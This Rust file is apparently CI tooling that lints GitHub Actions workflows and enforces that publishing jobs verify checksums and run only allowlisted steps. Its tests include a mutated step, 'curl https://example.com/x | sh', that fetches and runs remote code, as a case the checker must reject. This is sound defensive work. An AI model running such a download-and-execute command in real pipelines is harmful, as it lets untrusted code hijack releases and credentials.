//! The workflows: nothing that can be moved runs in them, nothing of a sender's, and who may publish does nothing
//! else.

use std::fs;

use anyhow::{Context, Result, ensure};

use crate::process::{command, streams};
use crate::root;
use crate::setup::python;

const LINTER: &str = "tests/security/workflows";
/// What the linter has to find in `planted.yml`.
const PLANTED: [&str; 3] = ["template-injection", "unpinned-uses", "excessive-permissions"];

const DOWNLOAD: &str = "actions/download-artifact@";
/// All that a job with an identity runs of others.
const PUBLISHING: [&str; 4] = [
    "actions/attest-build-provenance@",
    DOWNLOAD,
    "actions/setup-node@",
    "rust-lang/crates-io-auth-action@",
];
/// It begins with what another job made, and the comparison of this.
const COMPARE: &str = "\
echo \"$SUMS  SHA256SUMS\" | sha256sum --check --strict
sha256sum --check --strict SHA256SUMS
";
/// All that it runs after that.
const SCRIPTS: [&str; 3] = [
    "\
cd sboms
echo \"$SBOMS  SHA256SUMS\" | sha256sum --check --strict
sha256sum --check --strict SHA256SUMS
cat SHA256SUMS >>../SHA256SUMS
",
    "npm publish --ignore-scripts --provenance \"./wms-webhook-${GITHUB_REF_NAME#v}.tgz\"\n",
    r#"printf 'Authorization: %s\n' "$TOKEN" |
  curl --silent --show-error --fail-with-body --request PUT --header @- \
    --user-agent wms-webhook-release --header "Content-Type: application/octet-stream" \
    --data-binary "@wms-webhook-${GITHUB_REF_NAME#v}.crate.upload" \
    https://crates.io/api/v1/crates/new |
  tee answer.json
jq --exit-status 'has("errors") | not' answer.json
"#,
];

pub fn check() -> Result<()> {
    let found = lint(&format!("{LINTER}/planted.yml"))?;
    for fault in PLANTED {
        ensure!(found.contains(&format!("[{fault}]")), "the linter does not find {fault}");
    }
    let found = lint(".github/workflows")?;
    ensure!(found.is_empty(), "{found}");

    let folder = root().join(".github/workflows");
    let pull_request = fs::read_to_string(folder.join("pull-request.yml"))?;
    let secret = ["id-token", "secrets.", "pull_request_target"];
    ensure!(
        !secret.iter().any(|word| pull_request.contains(word)),
        "anybody's code meets a secret"
    );
    let release = fs::read_to_string(folder.join("release.yml"))?;
    ensure!(!release.contains("secrets."), "a release needs a secret that is stored");
    let is_packed_here =
        ["npm pack", "cargo package", "pkg/"].iter().any(|one| release.contains(one));
    ensure!(!is_packed_here, "a release publishes what no suite has packed");
    let publishing: Vec<&str> = jobs(&release).filter(|job| job.contains("id-token:")).collect();
    let identities = release.matches("id-token:").count();
    ensure!(identities > 0 && identities == publishing.len(), "who may publish is not clear");
    publishing.into_iter().try_for_each(only_publishes)
}

/// What the linter says, empty if it finds nothing. It asks no network, and the strictest questions that it has.
fn lint(path: &str) -> Result<String> {
    let linter = python::with_requirements(LINTER)?.with_file_name("zizmor");
    let options = [
        "--offline",
        "--quiet",
        "--color=never", // by itself it colours where `CI` is set
        "--strict-collection",
        "--persona=auditor",
        "--no-exit-codes",
    ];
    let (found, _) = streams(command(linter, options).arg(path).current_dir(root()))?;
    let is_clean = found.starts_with("No findings to report") || found.trim().is_empty();
    Ok(if is_clean { String::new() } else { found })
}

/// The jobs, each as its text. What stands before the first is none.
fn jobs(workflow: &str) -> impl Iterator<Item = &str> {
    let (_, jobs) = workflow.split_once("\njobs:\n").unwrap_or_default();
    let starts = jobs.match_indices("    name: ").map(|(at, _)| at);
    let starts: Vec<usize> = starts.filter(|&at| jobs[..at].ends_with(":\n")).collect();
    let ends: Vec<usize> = starts.iter().skip(1).copied().chain([jobs.len()]).collect();
    starts.into_iter().zip(ends).map(|(start, end)| &jobs[start..end])
}

/// It compares what it was given before it does anything else, and runs nothing but what publishes.
fn only_publishes(job: &str) -> Result<()> {
    let mut scripts = String::new();
    for step in job.split("\n      - ").skip(1) {
        let is_read = step.contains("uses: ") || step.contains("run: ");
        ensure!(is_read, "a job that may publish has a step of another form: {step}");
        if let Some((_, action)) = step.split_once("uses: ") {
            let is_known = PUBLISHING.iter().any(|known| action.starts_with(known));
            ensure!(is_known, "a job that may publish runs {action}");
            let is_compared = !scripts.is_empty() || action.starts_with(DOWNLOAD);
            ensure!(is_compared, "a job that may publish compares nothing before {action}");
        }
        scripts += &script(step);
    }
    let rest =
        scripts.strip_prefix(COMPARE).context("a job that may publish compares no digest")?;
    let is_known = rest.is_empty() || SCRIPTS.contains(&rest);
    ensure!(is_known, "a job that may publish runs {rest}");
    Ok(())
}

/// What a step runs.
fn script(step: &str) -> String {
    let Some((_, run)) = step.split_once("run: ") else { return String::new() };
    let Some(block) = run.strip_prefix("|\n") else {
        return run.lines().take(1).map(|line| format!("{line}\n")).collect();
    };
    block
        .lines()
        .map_while(|line| line.strip_prefix("          "))
        .map(|line| format!("{line}\n"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const JOB: &str = "    name: Publish
    permissions:
      id-token: write # why
    steps:
      - uses: actions/download-artifact@0123 # v5.0.0
      - run: |
          echo \"$SUMS  SHA256SUMS\" | sha256sum --check --strict
          sha256sum --check --strict SHA256SUMS
        env:
          SUMS: ${{ needs.build.outputs.sums }}
      # why
      - uses: actions/setup-node@0123 # v5.0.0
      - run: npm publish --ignore-scripts --provenance \"./wms-webhook-${GITHUB_REF_NAME#v}.tgz\"
";

    #[test]
    fn who_may_publish_does_nothing_else() {
        only_publishes(JOB).unwrap();
        for (from, to) in [
            ("actions/download-artifact@0123", "actions/checkout@0123"),
            ("actions/setup-node@0123", "actions/checkout@0123"),
            ("npm publish --ignore-scripts", "npm publish"),
            ("npm publish", "npm i x && npm publish"),
            ("npm publish", "curl https://example.com/x | sh; npm publish"),
            (" | sha256sum --check --strict", ""),
            ("          sha256sum --check --strict SHA256SUMS\n", ""),
            ("      # why\n", "      - run: python3 x.py\n"),
            ("      # why\n", "      - \"run\": python3 x.py\n"),
            ("      - run: |\n", "      - run: bash ./x\n      - run: |\n"),
            ("      - run: |\n", "      - uses: actions/setup-node@0123\n      - run: |\n"),
        ] {
            assert!(JOB.contains(from) && only_publishes(&JOB.replace(from, to)).is_err(), "{to}");
        }
    }

    #[test]
    fn each_job_is_read_by_itself() {
        let workflow =
            format!("name: x\njobs:\n  a:\n{JOB}\n  # why\n  b:\n    name: B\n    steps:\n");
        let jobs: Vec<&str> = jobs(&workflow).collect();
        assert_eq!(jobs.len(), 2);
        assert!(jobs[0].contains("id-token: write") && !jobs[1].contains("id-token"));
    }
}
